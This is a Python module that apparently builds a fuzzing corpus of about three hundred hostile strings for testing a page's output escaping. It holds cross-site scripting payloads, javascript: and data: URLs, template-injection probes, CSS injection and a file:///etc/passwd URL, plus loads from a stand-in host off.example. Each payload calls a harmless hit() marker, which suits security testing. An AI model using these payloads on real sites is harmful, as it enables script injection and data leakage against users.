"""About three hundred texts that somebody could give an item, to make a page do their bidding.

Each calls ``hit(<its place>)``, opens a dialog, asks ``off.example`` for something, or tries to
come out of its place on the page: a script that runs says which text it was.
"""

from __future__ import annotations

from itertools import product

__all__ = ["HOSTILE"]

_WAYS_OUT = (
    "",
    '">',
    "'>",
    "`>",
    "</title>",
    "</style>",
    "</script>",
    "</textarea></noscript>",
    "--><!-- -->",
    "]]>",
    "</bdi></span></a>",
    "</svg></math>",
)
_ACTS = (
    "<script>hit(§)</script>",
    "<ScRiPt/x>alert(§)</sCrIpT >",
    "<img src=x onerror=hit(§)>",
    "<img src=//off.example/§.png>",
    "<svg/onload=hit(§)>",
    "<svg><script>hit&#40;§&#41;</script>",
    "<iframe srcdoc='<script>parent.hit(§)</script>'>",
    "<iframe src=javascript:parent.hit(§)>",
    "<details open ontoggle=hit(§)>",
    "<video src=x onerror=hit(§)>",
    "<body onpageshow=hit(§)>",
    "<link rel=stylesheet href=//off.example/§.css>",
    "<script src=//off.example/§.js></script>",
    "<style>@import url(//off.example/§);*{background:url(//off.example/§)}</style>",
    "<base href=//off.example/><meta http-equiv=refresh content='0;url=//off.example/§'>",
    "<form action=//off.example/§><input autofocus onfocus=hit(§)>",
)
_ATTRIBUTES = (
    '" onmouseover="hit(§)" x="',
    '" autofocus onfocus="hit(§)" tabindex="1" x="',
    "' onload='hit(§)' x='",
    '" onerror="hit(§)" src="x',
    '" style="position:fixed;inset:0;background:url(//off.example/§)" x="',
    '" hx-get="//off.example/§" hx-trigger="load" x="',
    '" hx-on:htmx:load="hit(§)" x="',
    '" data-hx-vals="js:{x:hit(§)}" x="',
    '" formaction="javascript:hit(§)" x="',
    '" srcset="//off.example/§ 1x" x="',
    '" ping="//off.example/§" target="_top" x="',
    "=hit(§) onx=",
)
_URLS = (
    "javascript:hit(§)",
    "JaVaScRiPt:hit(§)",
    " javascript:hit(§)",
    "\tjavascript:hit(§)",
    "java\nscript:hit(§)",
    "java\tscript:hit(§)",
    "\x01javascript:hit(§)",
    "javascript&colon;hit(§)",
    "javascript://127.0.0.1:8000/%0ahit(§)",
    "vbscript:hit(§)",
    "data:text/html,<script>hit(§)</script>",
    "data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='hit(§)'/>",
    "blob:http://127.0.0.1:8000/§",
    "filesystem:http://127.0.0.1:8000/§",
    "file:///etc/passwd?§",
    "//off.example/§",
    "\\\\off.example\\§",
    "/\\off.example/§",
    "https://off.example/§.png",
    "http://127.0.0.1:8000@off.example/§",
    "http://127.0.0.1:8000\\@off.example/§",
    "http://127.0.0.1:8000.off.example/§",
    "http://off.example\x00.127.0.0.1:8000/§",
    'http://127.0.0.1:8000/"onerror=hit(§)//',
    "http://127.0.0.1:8000/'><script>hit(§)</script>",
    "http://[::1/§",
    "view-source:http://127.0.0.1:8000/§",
    "about:blank#§",
    "ws://off.example/§",
)
_TEMPLATES = (
    "{{ 7*7 }} §",
    "{{ ''.__class__.__mro__[1].__subclasses__() }} §",
    "{{ config }} {{ self }} §",
    "{% include 'base.html' %} §",
    "{% for x in range(99) %}§{% endfor %}",
    "{# § #}",
    "{%- raw %}§",
    "${hit(§)}",
    "`${hit(§)}`",
    "#{hit(§)} *{hit(§)}",
    "<%= hit(§) %>",
    "<?php hit(§) ?>",
    "{{constructor.constructor('hit(§)')()}}",
    "[[hit(§)]] %(§)s {0.__class__} %s%n",
    "\\u003cscript\\u003ehit(§)\\u003c/script\\u003e",
    "';hit(§);//",
    '";hit(§);//',
    "\\';hit(§);//",
    "*/hit(§)/*",
    "};hit(§);{",
)
_STYLES = (
    "}body{background:url(//off.example/§)}",
    "color:expression(hit(§))",
    "@import '//off.example/§';",
    "background:url('javascript:hit(§)')",
    "-moz-binding:url(//off.example/§)",
    "</style><style>*{display:none}</style>§",
)
_ENTITIES = (
    "&lt;script&gt;hit(§)&lt;/script&gt;",
    "&#60;script&#62;hit(§)&#60;/script&#62;",
    "&#x3c;img src=x onerror=hit(§)&#x3e;",
    "&quot; onmouseover=&quot;hit(§)",
    "&NewLine;&Tab;javascript&colon;hit(§)",
    "&amp;lt;script&amp;gt;hit(§)",
    "%3Cscript%3Ehit(§)%3C/script%3E",
    "%253Cscript%253Ehit(§)",
    "+ADw-script+AD4-hit(§)+ADw-/script+AD4-",
    "\uff1cscript\uff1ehit(§)\uff1c/script\uff1e",
    "\u02bcscript\u02bc \u2039script\u203a hit(§)",
)
_TURNED = tuple(
    f"{mark}gnp.§ <script>hit(§)</script>{mark}"
    for mark in map(chr, (*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200E, 0x200F, 0x61C))
)
_CONTROLS = tuple(
    f"<{chr(code)}script{chr(code)}>hit(§){chr(code)}</script>"
    for code in (*range(0x20), 0x7F, 0x80, 0x85, 0x9B, 0xA0, 0xAD, 0xFEFF, 0xFFFD, 0xFFFE, 0xFFFF)
)
_HALVES = (
    "\\ud800N\\udfff",
    "\ufffd\ufffd§",
    "\u00c3\u0192\u00c2\u00a9 §",
    "\U0010ffff§\U000e0001",
    "\U000e0041\U000e007f§",
    "\u00c0\u00bcscript\u00c0\u00behit(§)",
)
_LONG = (
    "W" * 3000 + "§",
    "W\u00a0" * 1500 + "§",
    "W\u2060" * 1500 + "§",
    "\u0e01\u0e33" * 1000 + "§",
    "Z" + "\u0300\u0489" * 1500 + "§",
    "\U0001f468\u200d\U0001f469\u200d" * 400 + "§",
    "\ufdfd" * 500 + "§",
    "\U0001242b" * 500 + "§",
    "<" * 3000 + "§",
    "&" * 3000 + "§",
    "\n" * 3000 + "§",
    "_" * 200 + " " + "§" * 400,
)

_ALL = (
    *map("".join, product(_WAYS_OUT[:10], _ACTS)),
    *(f"{way_out}{_ACTS[place]}" for place, way_out in enumerate(_WAYS_OUT)),
    *_ATTRIBUTES,
    *_URLS,
    *_TEMPLATES,
    *_STYLES,
    *_ENTITIES,
    *_TURNED,
    *_CONTROLS,
    *_HALVES,
    *_LONG,
)
HOSTILE: tuple[str, ...] = tuple(
    text.replace("§", str(place)) for place, text in enumerate(dict.fromkeys(_ALL))
)
"""Every text once, with its place where it names itself."""
